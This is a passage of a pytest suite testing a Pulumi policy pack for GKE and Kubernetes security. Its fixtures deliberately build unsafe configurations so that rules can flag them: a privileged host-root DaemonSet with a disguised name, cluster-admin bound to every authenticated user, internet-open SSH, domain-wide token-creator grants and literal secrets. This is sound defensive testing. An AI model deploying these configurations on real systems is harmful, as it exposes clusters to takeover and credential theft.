    ("k8s-pinned-images", CLUSTER, cluster(nodeConfig={"imageType": "COS_CONTAINERD", "image": "latest"}), []),
    # ---- hf-token-via-secret
    ("hf-token-via-secret", DEPLOYMENT, deployment(env=[SECRET_ENV, {"name": "VLLM_LOGGING", "value": "1"}]), []),
    ("hf-token-via-secret", DEPLOYMENT, deployment(env=[{"name": "HF_TOKEN", "value": "x"}]),
     [f'{DEPLOY_CONTAINER}.env[0]: env HF_TOKEN sets a literal value; use valueFrom.secretKeyRef '
      '{name: "llm-d-hf-token"} instead']),
    ("hf-token-via-secret", LWS, lws(env=[{"name": "HUGGING_FACE_HUB_TOKEN",
                                           "valueFrom": {"secretKeyRef": {"name": "other", "key": "t"}}}]),
     ['spec.leaderWorkerTemplate.workerTemplate.spec.containers[0].env[0]: env HUGGING_FACE_HUB_TOKEN comes from '
      '"other"; use valueFrom.secretKeyRef {name: "llm-d-hf-token"}']),
    ("hf-token-via-secret", DEPLOYMENT,
     deployment(env=[{"name": "HF_TOKEN", "valueFrom": {"configMapKeyRef": {"name": "cm", "key": "t"}}}]),
     [f'{DEPLOY_CONTAINER}.env[0]: env HF_TOKEN comes from no secretKeyRef; use valueFrom.secretKeyRef '
      '{name: "llm-d-hf-token"}']),
    ("hf-token-via-secret", CHART, chart({"modelArtifacts": {"authSecretName": "llm-d-hf-token"},
                                          "hfToken": {"name": "llm-d-hf-token", "key": "HF_TOKEN"}}), []),
    ("hf-token-via-secret", CHART, chart({"modelserver": {"hf_token": "s3cr3t"}}),
     ['values.modelserver.hf_token holds a Hugging Face token literal; reference the "llm-d-hf-token" Secret instead']),
    ("hf-token-via-secret", "kubernetes:core/v1:ConfigMap",
     {"metadata": {"name": "cfg"}, "data": {"run.sh": f"export TOKEN={FAKE_TOKEN}"}},
     ['data.run.sh contains a Hugging Face token literal; keep it only in the "llm-d-hf-token" Secret']),
    ("hf-token-via-secret", SECRET, {"metadata": {"name": "llm-d-hf-token"}, "stringData": {"HF_TOKEN": FAKE_TOKEN}},
     []),
    ("hf-token-via-secret", SECRET, {"metadata": {"name": "copy"}, "stringData": {"HF_TOKEN": "x"}},
     ['stringData.HF_TOKEN holds a Hugging Face token literal; reference the "llm-d-hf-token" Secret instead']),
    # ---- k8s-no-token-in-model-servers
    ("k8s-no-token-in-model-servers", DEPLOYMENT,
     {"spec": {"template": {"metadata": {"labels": {"llm-d.ai/engine-type": "vllm"}},
                            "spec": {"automountServiceAccountToken": False, "containers": [{"name": "x"}]}}}}, []),
    ("k8s-no-token-in-model-servers", DEPLOYMENT, deployment(), []),  # not a model server: no label, no engine image
    ("k8s-no-token-in-model-servers", DEPLOYMENT, deployment(image="vllm/vllm-openai:v0.1.0"),
     ["spec.template.spec.automountServiceAccountToken is not set on a model server: must be false (no Kubernetes "
      "API token in engine pods)"]),
    ("k8s-no-token-in-model-servers", LWS,
     {"spec": {"leaderWorkerTemplate": {"workerTemplate": {
         "metadata": {"labels": {"llm-d.ai/inference-serving": "true"}},
         "spec": {"automountServiceAccountToken": False, "containers": [{"name": "x"}], "volumes": [
             {"name": "kube-api", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}]}}}}},
     ['spec.leaderWorkerTemplate.workerTemplate.spec: volume "kube-api" projects a service-account token into a '
      "model server"]),
    # ---- k8s-secrets-not-plain-env
    ("k8s-secrets-not-plain-env", DEPLOYMENT,
     deployment(env=[{"name": "CHUNK_TOKENS", "value": "8192"}, SECRET_ENV,
                     {"name": "WANDB_API_KEY", "valueFrom": {"secretKeyRef": {"name": "wandb", "key": "k"}}}]), []),
    ("k8s-secrets-not-plain-env", DEPLOYMENT, deployment(env=[{"name": "WANDB_API_KEY", "value": "abc"}]),
     [f"{DEPLOY_CONTAINER}.env[0]: env WANDB_API_KEY sets a literal credential; use valueFrom.secretKeyRef to a "
      "Secret"]),
    ("k8s-secrets-not-plain-env", "kubernetes:core/v1:ConfigMap",
     {"data": {"key.pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n"}},
     ["data.key.pem contains a private key; keep it in a Secret"]),
    # ---- gke-network-policy-enforced
    ("gke-network-policy-enforced", CLUSTER, cluster(datapathProvider="ADVANCED_DATAPATH"), []),
    ("gke-network-policy-enforced", CLUSTER, cluster(datapathProvider="LEGACY_DATAPATH", networkPolicy={
        "enabled": True, "provider": "CALICO"}, addonsConfig={"networkPolicyConfig": {"disabled": False}}), []),
    ("gke-network-policy-enforced", CLUSTER, cluster(datapathProvider="LEGACY_DATAPATH"),
     ['datapathProvider is "LEGACY_DATAPATH" and network policy enforcement is off (networkPolicy.enabled not set, '
      "addonsConfig.networkPolicyConfig.disabled not set): the stack's NetworkPolicies would not be enforced; use "
      '"ADVANCED_DATAPATH"']),
    # ---- k8s-network-policy-not-bypassed
    ("k8s-network-policy-not-bypassed", NETPOL, {"spec": {"podSelector": {}, "ingress": [{"from": [
        {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "gmp-system"}}}]}],
        "egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": ["10.0.0.0/8"]}}]}]}}, []),
    ("k8s-network-policy-not-bypassed", NETPOL, {"spec": {"podSelector": {}, "ingress": [{}, {"from": [
        {"namespaceSelector": {}, "podSelector": {"matchLabels": {"a": "b"}}}, {"ipBlock": {"cidr": "0.0.0.0/0"}}]}],
        "egress": [{"ports": [{"port": 443}]}]}},
     ["spec.ingress[0] has no `from`: it allows every source",
      "spec.ingress[1].from[0].namespaceSelector is empty: it selects every namespace",
      'spec.ingress[1].from[1].ipBlock.cidr "0.0.0.0/0" lets the internet in',
      "spec.egress[0] has no `to`: it allows every destination"]),
    # ---- k8s-no-exposed-services
    ("k8s-no-exposed-services", SERVICE, {"metadata": {"name": "epp"}, "spec": {"type": "ClusterIP"}}, []),
    ("k8s-no-exposed-services", SERVICE, {"metadata": {"name": "epp"}, "spec": {"type": "NodePort",
                                                                                "externalIPs": ["203.0.113.9"]}},
     ['spec.type is "NodePort": it exposes "epp" outside the cluster; use ClusterIP (the router: port-forward or '
      "router.mode=gateway)", "spec.externalIPs is set: it exposes the Service on node addresses"]),
    # ---- k8s-gateway-internal
    ("k8s-gateway-internal", GATEWAY, {"spec": {"gatewayClassName": "gke-l7-rilb"}}, []),
    ("k8s-gateway-internal", GATEWAY, {"spec": {"gatewayClassName": "gke-l7-global-external-managed"}},
     ['spec.gatewayClassName is "gke-l7-global-external-managed": only the internal classes '
      "['gke-l7-rilb', 'gke-l7-rilb-mc'] keep the router off the internet"]),
    # ---- iam-no-escalation-grants
    ("iam-no-escalation-grants", "gcp:projects/iAMMember:IAMMember",
     {"project": "p", "role": "roles/container.defaultNodeServiceAccount", "member": f"serviceAccount:{NODE_SA}"}, []),
    ("iam-no-escalation-grants", "gcp:serviceaccount/iAMMember:IAMMember",
     {"serviceAccountId": "x", "role": "roles/iam.serviceAccountTokenCreator", "member": "domain:example.com"},
     ['role "roles/iam.serviceAccountTokenCreator": mints tokens of service accounts (impersonation)',
      'member "domain:example.com" gets role "roles/iam.serviceAccountTokenCreator": no grant to the public or a '
      "whole domain"]),
    ("iam-no-escalation-grants", "gcp:serviceaccount/key:Key", {"serviceAccountId": "x"},
     ["a service-account key is a long-lived credential stored in the state: use Workload Identity or "
      "impersonation instead"]),
    # ---- bucket-writes-prefixed
    ("bucket-writes-prefixed", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.objectUser", "member": "principal://x", "condition": {
         "title": "t", "expression": 'resource.name.startsWith("projects/_/buckets/b/objects/models/m/")'}}, []),
    ("bucket-writes-prefixed", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.objectViewer", "member": "principal://x"}, []),
    ("bucket-writes-prefixed", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.objectUser", "member": "principal://x", "condition": {"title": "t",
      "expression": 'resource.name.startsWith("projects/_/buckets/b/objects/m/") || '
                    '(resource.name == "projects/_/buckets/b/objects/.staging/m.lease")'}}, []),
    ("bucket-writes-prefixed", "gcp:storage/bucketIAMMember:BucketIAMMember",
     {"bucket": "b", "role": "roles/storage.objectAdmin", "member": "principal://x", "condition": {
         "title": "t", "expression": 'resource.name.startsWith("projects/_/buckets/b/objects/m/") || true'}},
     ['role "roles/storage.objectAdmin" on bucket "b" without a folder condition (condition.expression '
      '"resource.name.startsWith(\\"projects/_/buckets/b/objects/m/\\") || true"): writers must be limited with '
      '`resource.name.startsWith("projects/_/buckets/<bucket>/objects/<folder>/")`']),
    # ---- k8s-no-cluster-admin
    ("k8s-no-cluster-admin", "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
     {"roleRef": {"kind": "ClusterRole", "name": "lws-manager"}, "subjects": [{"kind": "ServiceAccount", "name": "m"}]},
     []),
    ("k8s-no-cluster-admin", "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
     {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
      "subjects": [{"kind": "Group", "name": "system:authenticated"}]},
     ['roleRef "cluster-admin": binds cluster-wide admin rights',
      'subjects[0] is group "system:authenticated": binds every (or any) caller']),
    ("k8s-no-cluster-admin", "kubernetes:rbac.authorization.k8s.io/v1:Role",
     {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
     ["rules[0] grants every verb on every resource (cluster-admin by another name)"]),
    # ---- accelerator-reservation
    ("accelerator-reservation", NODE_POOL, node_pool("a4x-maxgpu-4g-metal", reservationAffinity=RESERVATION), []),
    ("accelerator-reservation", NODE_POOL, node_pool("n2-standard-8"), []),
    ("accelerator-reservation", NODE_POOL, node_pool("tpu7x-standard-4t"), []),
    ("accelerator-reservation", NODE_POOL,
     node_pool("a4x-maxgpu-4g-metal", reservationAffinity={"consumeReservationType": "ANY_RESERVATION"}),
     ['machine type "a4x-maxgpu-4g-metal" is reservation-bound: nodeConfig.reservationAffinity.consumeReservationType '
      'is "ANY_RESERVATION", must be "SPECIFIC_RESERVATION"',
      'machine type "a4x-maxgpu-4g-metal" is reservation-bound: nodeConfig.reservationAffinity.values is empty, '
      "must name the reservation"]),
    ("accelerator-reservation", NODE_POOL,
     node_pool("a4x-highgpu-4g", reservationAffinity={**RESERVATION, "values": []}),
     ['machine type "a4x-highgpu-4g" is reservation-bound: nodeConfig.reservationAffinity.values is empty, '
      "must name the reservation"]),
    ("accelerator-reservation", CLUSTER, cluster(nodePools=[node_pool("a4x-highgpu-4g")]),
     ['machine type "a4x-highgpu-4g" is reservation-bound: nodePools[0].nodeConfig.reservationAffinity'
      '.consumeReservationType is not set, must be "SPECIFIC_RESERVATION"',
      'machine type "a4x-highgpu-4g" is reservation-bound: nodePools[0].nodeConfig.reservationAffinity.values '
      "is empty, must name the reservation"]),
]


def _case_id(case: tuple[str, str, dict[str, Any], list[str]]) -> str:
    name, resource_type, _, expected = case
    return f"{name}-{resource_type.rsplit(':', 1)[-1]}-{'fail' if expected else 'pass'}"


@pytest.mark.parametrize("case", CASES, ids=[f"{_case_id(c)}-{i}" for i, c in enumerate(CASES)])
def test_rule(case):
    name, resource_type, props, expected = case
    check, _ = rules.CHECKS[name]
    assert check(resource_type, props) == expected


def test_every_rule_has_a_passing_and_a_failing_case():
    covered = {(name, bool(expected)) for name, _, _, expected in CASES}
    assert covered == {(name, outcome) for name in rules.CHECKS for outcome in (True, False)}


def test_reservation_only_machines_match_fact_sheet():
    assert common.RESERVATION_ONLY_MACHINE_TYPES == {"a4x-maxgpu-4g-metal", "a4x-highgpu-4g"}


# --------------------------------------------------------------------------- the runtime wrapper
def _run_policy(name: str, resource_type: str, props: dict[str, Any]) -> list[str]:
    """Call the ResourceValidationPolicy's validate as the analyzer does: props behind the unknown-checking
    proxy, violations through a report callback."""
    policy = next(p for p in rules.POLICIES if p.name == name)
    reported: list[str] = []
    args = ResourceValidationArgs(resource_type, unknown_checking_proxy(copy.deepcopy(props)),
                                  f"urn:pulumi:gpu::kimi-k3-1::{resource_type}::x", "x", None, None)
    policy.validate(args, lambda message, urn=None: reported.append(message))
    return reported


def test_wrapper_reports_violations_through_the_callback():
    assert _run_policy("accelerator-reservation", NODE_POOL, node_pool("a4x-highgpu-4g")) == \
        rules.check_reservation_affinity(NODE_POOL, node_pool("a4x-highgpu-4g"))
    assert _run_policy("k8s-pinned-images", DEPLOYMENT, deployment(image="nginx")) == [
        f'{DEPLOY_CONTAINER}.image: image "nginx" has no tag or digest; pin a version tag or digest']


def test_unknown_values_during_preview_are_skipped_not_failed():
    # The node service account's email is unknown until the account exists; the rest of the pool is still checked.
    pool = node_pool(serviceAccount=UNKNOWN_STRING_VALUE, workloadMetadataConfig={"mode": "GCE_METADATA"})
    assert _run_policy("gke-no-default-service-account", NODE_POOL, pool) == []
    assert _run_policy("gke-workload-identity", NODE_POOL, pool) == [
        'nodeConfig.workloadMetadataConfig.mode is "GCE_METADATA", must be "GKE_METADATA"']
    spec = deployment(image=UNKNOWN_STRING_VALUE, env=[{"name": "HF_TOKEN", "value": UNKNOWN_STRING_VALUE}])
    assert _run_policy("k8s-pinned-images", DEPLOYMENT, spec) == []
    assert _run_policy("hf-token-via-secret", DEPLOYMENT, spec) == [
        f'{DEPLOY_CONTAINER}.env[0]: env HF_TOKEN sets a literal value; use valueFrom.secretKeyRef '
        '{name: "llm-d-hf-token"} instead']


# --------------------------------------------------------------------------- the pack
def test_pack_lists_every_rule(monkeypatch):
    """Run policy/__main__.py with PolicyPack replaced (the real one starts the analyzer server and blocks)."""
    built: dict[str, Any] = {}

    class RecordingPack:
        def __init__(self, **kwargs: Any) -> None:
            built.update(kwargs)

    monkeypatch.setattr(pulumi_policy, "PolicyPack", RecordingPack)
    monkeypatch.setitem(sys.modules, "rules", rules)
    monkeypatch.setattr(sys, "path", list(sys.path))
    _load("kimi_policy_main", POLICY_DIR / "__main__.py")
    assert built["name"] == "kimi-k3-1-policies"
    assert built["enforcement_level"] is EnforcementLevel.MANDATORY
    assert built["policies"] is rules.POLICIES
    assert [p.name for p in built["policies"]] == [*rules.CHECKS, *rules.STACK_CHECKS]
    assert all(p.description for p in built["policies"])


def test_policy_project_file_reuses_project_venv():
    document = yaml.safe_load((POLICY_DIR / "PulumiPolicy.yaml").read_text())
    assert document["runtime"]["name"] == "python"
    venv = document["runtime"]["options"]["virtualenv"]
    assert (POLICY_DIR / venv).resolve() == (ROOT / ".venv").resolve()


# --------------------------------------------------------------------------- the committed stacks
@pytest.fixture(scope="module")
def plan_resources(plans) -> dict[str, list[dict[str, Any]]]:
    """The session's offline plan of the committed stacks (tests/conftest.py)."""
    return {stack: plans[stack].resources for stack in STACKS}


def test_committed_stacks_pass_every_policy(plan_resources):
    violations = [f"{stack}/{resource['name']} [{name}] {message}"
                  for stack, resources in plan_resources.items()
                  for resource in resources
                  for name, (check, _) in rules.CHECKS.items()
                  for message in check(resource["type"], resource["inputs"])]
    assert violations == []


def test_committed_stacks_exercise_every_policy(plan_resources):
    """The zero-violation result is not vacuous: each rule's resource kinds are in the plan, and a broken
    copy of the real GPU pool or cluster fails."""
    resources = [r for stack in STACKS for r in plan_resources[stack]]
    types = {r["type"] for r in resources}
    assert {BUCKET, CLUSTER, NODE_POOL, SECRET, "gcp:storage/bucketIAMMember:BucketIAMMember"} <= types
    assert any(list(pods.image_references(r["inputs"])) for r in resources if r["type"].startswith("kubernetes:"))
    machines = {r["inputs"]["nodeConfig"]["machineType"] for r in resources if r["type"] == NODE_POOL}
    assert machines & common.RESERVATION_ONLY_MACHINE_TYPES

    gpu_pool = next(r for r in plan_resources["gpu"] if r["type"] == NODE_POOL
                    and r["inputs"]["nodeConfig"]["machineType"] in common.RESERVATION_ONLY_MACHINE_TYPES)
    broken = copy.deepcopy(gpu_pool["inputs"])
    del broken["nodeConfig"]["reservationAffinity"]
    assert len(rules.check_reservation_affinity(NODE_POOL, broken)) == 2
    gke = copy.deepcopy(next(r for r in plan_resources["gpu"] if r["type"] == CLUSTER)["inputs"])
    gke["privateClusterConfig"]["enablePrivateNodes"] = False
    assert rules.check_private_nodes(CLUSTER, gke) == ["privateClusterConfig.enablePrivateNodes is false, must be true"]


# --------------------------------------------------------------------------- unsafe changes to the real plans
_checked: dict[tuple[str, bytes], list[tuple[str, list[str]]]] = {}
"""Each resource's (policy, messages) under every resource policy, keyed by its type and inputs (marshal format 2:
the same bytes only for the same values, types and key order): the plans and variants checked here share most of
their resources, and a check is a function of the type and inputs alone."""


def _resource_violations(resource_type: str, inputs: Any) -> list[tuple[str, list[str]]]:
    try:
        key = (resource_type, marshal.dumps(inputs, 2))
    except ValueError:  # a value marshal cannot hold: check it every time
        key = None
    if key in _checked:
        return _checked[key]
    found = [(name, check(resource_type, inputs)) for name, (check, _) in rules.CHECKS.items()]
    if key is not None:
        _checked[key] = found
    return found


def all_violations(resources: list[dict[str, Any]]) -> dict[str, list[str]]:
    """Every resource and stack policy over a plan's resources: policy name -> its messages."""
    found: dict[str, list[str]] = {}
    for resource in resources:
        for name, messages in _resource_violations(resource["type"], resource["inputs"]):
            found.setdefault(name, []).extend(messages)
    pairs = [(r["type"], r["inputs"]) for r in resources]
    for name, (stack_check, _) in rules.STACK_CHECKS.items():
        found.setdefault(name, []).extend(stack_check(pairs))
    return {name: messages for name, messages in found.items() if messages}


def test_committed_stacks_pass_every_stack_policy(plan_resources):
    assert {stack: all_violations(resources) for stack, resources in plan_resources.items()} == {"gpu": {}, "tpu": {}}


def _one(resources: list[dict[str, Any]], type_token: str, name: str | None = None) -> dict[str, Any]:
    found = [r for r in resources if r["type"] == type_token and (name is None or name in r["name"])]
    assert found, f"no {type_token} {name or ''} in the plan"
    return found[0]["inputs"]


def _grant_owner_to_nodes(resources):
    _one(resources, "gcp:projects/iAMMember:IAMMember", "nodes-")["role"] = "roles/owner"


def _open_control_plane(*cidrs):
    def mutate(resources):
        _one(resources, CLUSTER)["masterAuthorizedNetworksConfig"] = {
            "cidrBlocks": [{"cidrBlock": c, "displayName": "x"} for c in cidrs]}
    return mutate


def _legacy_abac(resources):
    _one(resources, CLUSTER)["enableLegacyAbac"] = True


def _bucket_to_domain(resources):
    grant = copy.deepcopy(_one(resources, "gcp:storage/bucketIAMMember:BucketIAMMember"))
    grant.update(role="roles/storage.admin", member="domain:example.com")
    resources.append({"type": "gcp:storage/bucketIAMMember:BucketIAMMember", "name": "x", "inputs": grant})


def _bucket_public(resources):
    _one(resources, "gcp:storage/bucketIAMMember:BucketIAMMember")["member"] = "allUsers"


def _shielded_off(option):
    def mutate(resources):
        pool = next(r for r in resources if r["type"] == NODE_POOL
                    and r["inputs"]["nodeConfig"]["machineType"] not in ("n2-standard-8", "c3-standard-44"))
        pool["inputs"]["nodeConfig"]["shieldedInstanceConfig"][option] = False
    return mutate


def _cluster_shielded_off(resources):
    _one(resources, CLUSTER)["enableShieldedNodes"] = False


def _gpu_vm_pool_with_shielded_cluster_off(resources):
    """The exception is tight: the GPU cluster may turn Shielded GKE Nodes off only for bare-metal A4X Max."""
    for resource in resources:
        if resource["type"] == NODE_POOL and resource["inputs"]["nodeConfig"]["machineType"] == "a4x-maxgpu-4g-metal":
            resource["inputs"]["nodeConfig"]["machineType"] = "a4x-highgpu-4g"


def _privileged_pod(resources):
    namespace = _one(resources, "kubernetes:core/v1:Namespace", "guide")["metadata"]["name"]
    resources.append({"type": DEPLOYMENT, "name": "debug", "inputs": {
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "debug", "namespace": namespace},
        "spec": {"template": {"spec": {"hostPID": True, "containers": [
            {"name": "shell", "image": "debian:13", "securityContext": {"privileged": True}}]}}}}})


def _privileged_sidecar(resources):
    serving = next(r for r in resources if r["type"].endswith((":DisaggregatedSet", ":LeaderWorkerSet")))
    spec = next(path for path, mapping in common._mappings(serving["inputs"]) if "containers" in mapping)
    pod = serving["inputs"]
    for part in spec.replace("]", "").replace("[", ".").split("."):
        pod = pod[int(part)] if part.isdigit() else pod[part]
    pod["hostNetwork"] = True


def _ssh_from_internet(resources):
    resources.append({"type": "gcp:compute/firewall:Firewall", "name": "allow-ssh", "inputs": {
        "name": "allow-ssh", "network": "kimi", "direction": "INGRESS",
        "allows": [{"protocol": "tcp", "ports": ["22"]}], "sourceRanges": ["0.0.0.0/0"]}})


def _drop_default_deny(resources):
    resources[:] = [r for r in resources if not (
        r["type"] == "kubernetes:networking.k8s.io/v1:NetworkPolicy"
        and stack_rules._is_default_deny_ingress(r["inputs"]))]


def _spec_of(resources, type_suffix: str, index: int = 0) -> dict[str, Any]:
    """The `index`-th pod spec of the first resource whose type ends with `type_suffix`."""
    resource = next(r for r in resources if r["type"].endswith(type_suffix))
    path = [p for p, _ in pods._pod_specs(resource["inputs"])][index]
    node = resource["inputs"]
    for part in [p for p in path.replace("]", "").replace("[", ".").split(".") if p]:
        node = node[int(part)] if part.isdigit() else node[part]
    return node


def _engine_spec(resources) -> dict[str, Any]:
    return _spec_of(resources, (":DisaggregatedSet", ":LeaderWorkerSet"))


def _container(spec: dict[str, Any], name: str) -> dict[str, Any]:
    return next(c for c in [*spec.get("initContainers", []), *spec["containers"]] if c["name"] == name)


def _engine_name(spec: dict[str, Any]) -> str:
    return next(c["name"] for c in spec["containers"] if c["name"] in ("vllm", "vllm-tpu", "sglang"))


def _legacy_datapath(resources):
    _one(resources, CLUSTER)["datapathProvider"] = "LEGACY_DATAPATH"


def _allow_all_policy(resources):
    namespace = _one(resources, "kubernetes:core/v1:Namespace", "guide")["metadata"]["name"]
    resources.append({"type": NETPOL, "name": "allow-all", "inputs": {
        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": "allow-all", "namespace": namespace},
        "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}}})


def _any_namespace(resources):
    serving = _one(resources, NETPOL, "serving")
    serving["spec"]["ingress"][1]["from"][0]["namespaceSelector"] = {}


def needs_charts(change):
    """Mark a change that edits chart objects: without a chart copy the plan has none, and the test skips."""
    change.needs_charts = True
    return change


def _router_service(kind):
    @needs_charts
    def mutate(resources):
        _one(resources, SERVICE, "epp")["spec"]["type"] = kind
    return mutate


@needs_charts
def _public_router_service(resources):
    router = copy.deepcopy(_one(resources, SERVICE, "epp"))
    router["metadata"]["name"] = "router-public"
    router["spec"]["type"] = "LoadBalancer"
    resources.append({"type": SERVICE, "name": "router-public", "inputs": router})


def _impostor_named_like_the_engine(resources):
    """A privileged debug container that borrows the engine's name (and a sidecar's) but not its image."""
    spec = _engine_spec(resources)
    engine = _container(spec, _engine_name(spec))
    spec["containers"] = [c for c in spec["containers"] if c is not engine]
    spec["containers"].append({**copy.deepcopy(engine), "image": "docker.io/library/debian:13"})


def _impostor_daemonset(resources):
    resources.append({"type": "kubernetes:apps/v1:DaemonSet", "name": "node-shell", "inputs": {
        "apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "asapd-lite", "namespace": "kube-system"},
        "spec": {"template": {"spec": {"hostPID": True, "hostNetwork": True,
                                       "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                                       "containers": [{"name": "asapd-lite", "image": "docker.io/library/debian:13",
                                                       "securityContext": {"privileged": True},
                                                       "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}}}}})


def _exempt_engine_mounts_the_host_root(resources):
    spec = _engine_spec(resources)
    spec.setdefault("volumes", []).append({"name": "host-root", "hostPath": {"path": "/"}})
    _container(spec, _engine_name(spec)).setdefault("volumeMounts", []).append(
        {"name": "host-root", "mountPath": "/host"})


def _node_setup_mounts_etc(resources):
    spec = _engine_spec(resources)
    spec.setdefault("volumes", []).append({"name": "etc", "hostPath": {"path": "/etc/../etc"}})
    _container(spec, "tpu-node-setup").setdefault("volumeMounts", []).append({"name": "etc", "mountPath": "/etc"})


def _unrestricted_sidecar_in_host_pid_pod(resources):
    spec = _spec_of(resources, ":DisaggregatedSet", 1)
    assert spec.get("hostPID") is True
    del _container(spec, "routing-proxy")["securityContext"]


@needs_charts
def _router_adds_capability(resources):
    router = _one(resources, "kubernetes:apps/v1:Deployment", "epp")["spec"]["template"]["spec"]
    router["containers"][0].setdefault("securityContext", {})["capabilities"] = {"add": ["NET_ADMIN"]}


def _project_iam_admin(resources):
    _one(resources, "gcp:projects/iAMMember:IAMMember", "nodes-")["role"] = "roles/resourcemanager.projectIamAdmin"


def _token_creator_to_domain(resources):
    resources.append({"type": "gcp:serviceaccount/iAMMember:IAMMember", "name": "impersonate", "inputs": {
        "serviceAccountId": "projects/p/serviceAccounts/nodes@p.iam.gserviceaccount.com",
        "role": "roles/iam.serviceAccountTokenCreator", "member": "domain:example.com"}})


def _service_account_key(resources):
    resources.append({"type": "gcp:serviceaccount/key:Key", "name": "nodes-key",
                      "inputs": {"serviceAccountId": "projects/p/serviceAccounts/nodes@p.iam.gserviceaccount.com"}})


@needs_charts
def _cluster_admin_binding(resources):
    binding = next(r for r in resources if r["type"].endswith(":ClusterRoleBinding"))
    binding["inputs"]["roleRef"]["name"] = "cluster-admin"


def _staging_writer_without_prefix(resources):
    del _one(resources, "gcp:storage/bucketIAMMember:BucketIAMMember", "staging-writer")["condition"]


def _staging_writer_whole_bucket(resources):
    grant = _one(resources, "gcp:storage/bucketIAMMember:BucketIAMMember", "staging-writer")
    grant["condition"]["expression"] = f'resource.name.startsWith("projects/_/buckets/{grant["bucket"]}/objects/")'


def _token_in_model_server(value):
    def mutate(resources):
        spec = _engine_spec(resources)
        if value is None:
            del spec["automountServiceAccountToken"]
        else:
            spec["automountServiceAccountToken"] = value
    return mutate


def _projected_token_in_model_server(resources):
    spec = _engine_spec(resources)
    spec.setdefault("volumes", []).append(
        {"name": "api", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}})


def _plain_env_secret(name):
    def mutate(resources):
        spec = _engine_spec(resources)
        _container(spec, _engine_name(spec)).setdefault("env", []).append({"name": name, "value": "s3cr3t"})
    return mutate


UNSAFE_CHANGES = [
    # (stack, change, policy that must catch it)
    ("gpu", _grant_owner_to_nodes, "iam-no-primitive-roles"),
    ("tpu", _open_control_plane("0.0.0.0/0"), "gke-control-plane-not-public"),
    ("gpu", _open_control_plane("0.0.0.0/1", "128.0.0.0/1"), "gke-control-plane-not-public"),
    ("tpu", _legacy_abac, "gke-no-legacy-auth"),
    ("gpu", _bucket_to_domain, "bucket-not-public"),
    ("tpu", _bucket_public, "bucket-not-public"),
    ("gpu", _shielded_off("enableSecureBoot"), "gke-shielded-nodes"),
    ("tpu", _shielded_off("enableIntegrityMonitoring"), "gke-shielded-nodes"),
    ("tpu", _cluster_shielded_off, "gke-shielded-cluster"),
    ("gpu", _gpu_vm_pool_with_shielded_cluster_off, "gke-shielded-cluster"),
    ("gpu", _privileged_pod, "declared-workloads"),
    ("tpu", _privileged_pod, "declared-workloads"),
    ("gpu", _privileged_sidecar, "declared-workloads"),
    ("tpu", _privileged_sidecar, "declared-workloads"),
    ("gpu", _ssh_from_internet, "firewall-no-internet-ingress"),
    ("gpu", _drop_default_deny, "k8s-namespace-default-deny"),
    ("tpu", _drop_default_deny, "k8s-namespace-default-deny"),
    # NetworkPolicies made inert or bypassed
    ("gpu", _legacy_datapath, "gke-network-policy-enforced"),
    ("tpu", _legacy_datapath, "gke-network-policy-enforced"),
    ("gpu", _allow_all_policy, "k8s-network-policy-not-bypassed"),
    ("tpu", _any_namespace, "k8s-network-policy-not-bypassed"),
    # the router exposed
    ("gpu", _router_service("LoadBalancer"), "k8s-no-exposed-services"),
    ("tpu", _router_service("NodePort"), "k8s-no-exposed-services"),
    ("tpu", _public_router_service, "k8s-no-exposed-services"),
    # exemptions follow images, host paths and capabilities, not names
    ("gpu", _impostor_named_like_the_engine, "declared-workloads"),
    ("gpu", _impostor_daemonset, "declared-workloads"),
    ("gpu", _exempt_engine_mounts_the_host_root, "declared-workloads"),
    ("tpu", _node_setup_mounts_etc, "declared-workloads"),
    ("gpu", _unrestricted_sidecar_in_host_pid_pod, "declared-workloads"),
    ("tpu", _router_adds_capability, "declared-workloads"),
    # dangerous non-basic grants
    ("gpu", _project_iam_admin, "iam-no-escalation-grants"),
    ("tpu", _token_creator_to_domain, "iam-no-escalation-grants"),
    ("gpu", _service_account_key, "iam-no-escalation-grants"),
    ("gpu", _cluster_admin_binding, "k8s-no-cluster-admin"),
    ("tpu", _cluster_admin_binding, "k8s-no-cluster-admin"),
    ("gpu", _staging_writer_without_prefix, "bucket-writes-prefixed"),
    ("tpu", _staging_writer_whole_bucket, "bucket-writes-prefixed"),
    # service-account tokens in model servers
    ("gpu", _token_in_model_server(True), "k8s-no-token-in-model-servers"),
    ("tpu", _token_in_model_server(None), "k8s-no-token-in-model-servers"),
    ("gpu", _projected_token_in_model_server, "k8s-no-token-in-model-servers"),
    # non-HF secrets as plain env
    ("gpu", _plain_env_secret("WANDB_API_KEY"), "k8s-secrets-not-plain-env"),
    ("tpu", _plain_env_secret("AWS_SECRET_ACCESS_KEY"), "k8s-secrets-not-plain-env"),
]


@pytest.mark.parametrize("stack, change, policy", UNSAFE_CHANGES,
                         ids=[f"{s}-{p}-{i}" for i, (s, _, p) in enumerate(UNSAFE_CHANGES)])
def test_unsafe_change_to_a_real_plan_is_caught(plans, plan_resources, stack, change, policy):
    if getattr(change, "needs_charts", False):
        rendered(plans[stack])
    resources = mutations.plain_copy(plan_resources[stack])
    change(resources)
    assert policy in all_violations(resources)


def test_gpu_cluster_turns_shielded_nodes_off_only_for_bare_metal(plan_resources):
    gke = {stack: _one(plan_resources[stack], CLUSTER) for stack in STACKS}
